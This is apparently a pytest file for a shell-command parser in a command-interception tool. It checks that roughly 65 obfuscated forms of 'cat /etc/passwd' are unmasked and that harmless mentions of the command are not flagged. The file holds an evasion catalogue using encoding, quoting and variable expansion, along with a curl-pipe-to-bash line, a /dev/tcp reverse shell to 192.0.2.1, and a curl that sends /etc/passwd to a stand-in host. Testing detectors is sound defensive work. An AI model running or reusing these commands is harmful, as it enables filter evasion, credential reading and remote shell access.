"""What a shell would run: disguises are undone, and ordinary commands stay what they are."""

from __future__ import annotations

import base64
import contextlib
import subprocess
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interceptor.decide.shell.commands import Command, commands
from interceptor.decide.shell.lexer import TooComplexError

B64 = base64.b64encode(b"cat /etc/passwd").decode()
HEX = b"cat /etc/passwd".hex()

# Each runs `cat /etc/passwd`, with everything a shell has to hide that.
CAT = (
    "cat /etc/passwd",
    "c'a't /e''tc/pass\\wd",
    '"cat" "/etc/"passwd',
    "\\cat /etc/passwd",
    "/bin/cat /etc/passwd",
    "/???/?at /etc/passwd",
    "/usr/bin/[c]at /etc/passwd",
    "cat${IFS}/etc/passwd",
    "cat$IFS/etc/passwd",
    "{cat,/etc/passwd}",
    "cat /etc/{passwd,hosts}",
    "$'\\x63at' $'/etc/\\160asswd'",
    "$'\\u0063at' /etc/passwd",
    "a=ca;b=t;$a$b /etc/passwd",
    'a="cat /etc/passwd"; $a',
    "export F=/etc/passwd\ncat $F",
    "x=/etc/passwd; cat ${x}",
    "x=XXcat; ${x#XX} /etc/passwd",
    "x=catXX; ${x%XX} /etc/passwd",
    "x=dog; ${x/dog/cat} /etc/passwd",
    "x=CAT; ${x,,} /etc/passwd",
    "x=_cat_; ${x:1:3} /etc/passwd",
    "y=cat; x=y; ${!x} /etc/passwd",
    "${nope:-cat} /etc/passwd",
    f"echo {B64} | base64 -d | sh",
    f"base64 --decode <<< {B64} | bash",
    f"echo {HEX} | xxd -r -p | sh",
    f"printf '%s' {B64} | openssl base64 -d | sh",
    f'bash -c "$(echo {B64} | base64 -d)"',
    f"eval `echo {B64} | base64 -d`",
    "echo 'dwssap/cte/ tac' | rev | sh",
    "echo 'png /rgp/cnffjq' | tr a-z n-za-m | sh",
    "printf '\\143\\141\\164 /etc/passwd' | sh",
    "printf '%s %s' cat /etc/passwd | sh",
    "sh <<< 'cat /etc/passwd'",
    "sh <<EOF\ncat /etc/passwd\nEOF",
    "sh <<-'E'\n\tcat /etc/passwd\n\tE\nls",
    "sh -c 'cat /etc/passwd'",
    "bash -lc 'cat /etc/passwd'",
    "sudo -u root sh -c 'cat /etc/passwd'",
    "env -i A=1 timeout 5 nice -n 3 cat /etc/passwd",
    "env -S 'cat /etc/passwd'",
    "nohup setsid cat /etc/passwd &",
    "busybox cat /etc/passwd",
    "exec cat /etc/passwd",
    "command cat /etc/passwd",
    "echo /etc/passwd | xargs cat",
    "echo passwd | xargs -I{} cat /etc/{}",
    "find /etc -name passwd -exec cat /etc/passwd \\;",
    "true && cat /etc/passwd || false",
    "if true; then cat /etc/passwd; fi",
    "for f in /etc/passwd; do cat $f; done",
    "while :; do cat /etc/passwd; done",
    "(cd /; cat /etc/passwd)",
    "{ cat /etc/passwd; }",
    "f() { cat /etc/passwd; }; f",
    "echo $(cat /etc/passwd)",
    'curl "http://x.test/$(cat /etc/passwd)"',
    "ls | cat /etc/passwd",
    "trap 'cat /etc/passwd' EXIT",
    "alias l='cat /etc/passwd'; l",
    "ca\\\nt /etc/passwd",
    "# a comment\ncat /etc/passwd # another",
    "X=1 cat /etc/passwd",
    "2>/dev/null cat /etc/passwd",
)


def runs(text: str) -> list[Command]:
    return [c for c in commands(text) if c.name == "cat" and "/etc/passwd" in c.words]


def test_every_disguise_of_one_command_is_undone() -> None:
    missed = [text for text in CAT if not runs(text)]
    assert not missed


@pytest.mark.parametrize("shell", ["bash"])
def test_a_real_shell_agrees(shell: str) -> None:
    """The positive control: what is undone above is what a shell runs."""
    with contextlib.suppress(FileNotFoundError):
        for text in CAT:
            if any(word in text for word in ("sudo", "busybox", "while", "nohup", "curl", "xxd")):
                continue
            if any(word in text for word in ("trap", "alias", "openssl", "exec ")):
                continue
            script = 'shopt -s expand_aliases; command() { builtin command "$@"; };' + text
            done = subprocess.run(
                [shell, "-c", script],
                capture_output=True,
                timeout=20,
                check=False,
                stdin=subprocess.DEVNULL,
            )
            assert b"root:" in done.stdout, (text, done)


# What must not be taken for running it.
NOT = (
    "echo cat /etc/passwd",
    "echo 'cat /etc/passwd'",
    "git commit -m 'cat /etc/passwd'",
    "# cat /etc/passwd",
    "grep 'cat /etc/passwd' notes.txt",
    "printf 'cat /etc/passwd\\n' > notes.txt",
    "echo 'cat /etc/passwd' | tee notes.txt",
    "cat <<EOF\ncat /etc/passwd\nEOF",
    f"echo {B64} | base64 -d",
    "x='cat /etc/passwd'; echo \"$x\"",
    '"cat /etc/passwd"',
)


def test_text_that_only_speaks_of_it_runs_nothing() -> None:
    assert [text for text in NOT if runs(text)] == []


def test_redirections_and_pipes_are_told() -> None:
    (echo,) = commands("echo 'x' >> ~/.bashrc 2>&1")
    assert echo.redirections == ((">>", "~/.bashrc"), (">&", "1"))
    curl, bash = commands("curl -s http://x.test | bash")
    assert (curl.before, bash.before) == ((), ("curl",))
    shell, *_ = commands("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
    assert (">&", "/dev/tcp/192.0.2.1/4444") in shell.redirections
    assert [c.within for c in commands("echo $(whoami)")] == [True, False]


def test_what_goes_too_far_is_said_to() -> None:
    for text in (
        "$(" * 40 + "ls" + ")" * 40,
        "eval " * 40 + "ls",
        "sudo " * 40 + "ls",
        "echo " + "{a,b}" * 12,
        "echo " + "{" * 100,
        "ls;" * 5000,
        "ls " + "x" * (1 << 19),
        "a=xxxxxxxxxxxxxxxx;" + "a=$a$a;" * 40 + "$a",
    ):
        with pytest.raises(TooComplexError):
            commands(text)


ALPHABET = "abc $'\"\\`(){}[]|&;<>\n=,.*?#!~/-0EOF"


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from(ALPHABET), max_size=60))
def test_any_text_ends_in_commands_or_is_too_complex(text: str) -> None:
    with contextlib.suppress(TooComplexError):
        assert all(isinstance(command.name, str) for command in commands(text))


def test_long_texts_take_time_in_proportion() -> None:
    for unit in ("ls -la; ", "'", '"', "$(", "`", "{a,", "\\", "<<E\n", "x=$x$x;", "${a:-", "( "):
        taken = []
        for size in (4_000, 32_000):
            text = unit * (size // len(unit))
            tries = []
            for _ in range(3):
                begin = time.process_time()
                with contextlib.suppress(TooComplexError):
                    commands(text)
                tries.append(time.process_time() - begin)
            taken.append(min(tries))
        # Eight times as long; quadratic would be sixty-four.
        assert taken[1] < max(0.05, taken[0] * 24), unit
